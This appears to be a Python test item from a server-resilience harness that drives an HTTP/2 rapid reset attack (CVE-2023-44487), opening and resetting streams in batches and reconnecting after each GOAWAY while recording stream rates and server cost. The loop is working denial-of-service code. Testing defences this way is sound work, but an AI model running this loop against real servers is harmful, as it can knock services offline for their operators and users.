"""Item 1, HTTP/2 rapid reset with no token: one connection sends HEADERS then
RST_STREAM in a loop (CVE-2023-44487). When the server ends the connection (GOAWAY,
the defence), the attacker opens another and goes on, as a real one would; the
bound is on what this costs the victim and the server's memory, not on how the
server sheds the attacker."""

from __future__ import annotations


from .h2wire import RawH2

PATH = "/concord.lock.v1.LockService/Describe"
BATCH = 100


def run(ctx) -> None:
    warm = RawH2(ctx.server.target, ctx.codes)  # a connection's first-use costs, before the baseline
    warm.reset(warm.open_stream(PATH))
    warm.flush()
    warm.pump(0.2)
    warm.close()
    ctx.baseline()
    streams = connections = 0
    goaways = set()
    with ctx.attacking():
        conn = None
        for _ in ctx.until():
            if conn is None or conn.closed:
                if conn is not None:
                    goaways.add(conn.goaway)
                    conn.close()
                conn = RawH2(ctx.server.target, ctx.codes)
                connections += 1
            try:
                for _ in range(BATCH):
                    conn.reset(conn.open_stream(PATH))
                    streams += 1
            except Exception:  # the h2 state machine refusing more (stream ids used up, closed): reconnect
                conn.closed = True
            conn.flush()
            conn.pump()
        if conn is not None:
            goaways.add(conn.goaway)
            conn.close()
    seconds = ctx.window[1] - ctx.window[0]
    ctx.figures.update(streams_reset=streams, streams_per_s=round(streams / seconds), connections=connections,
                       goaway=sorted(str(g) for g in goaways))
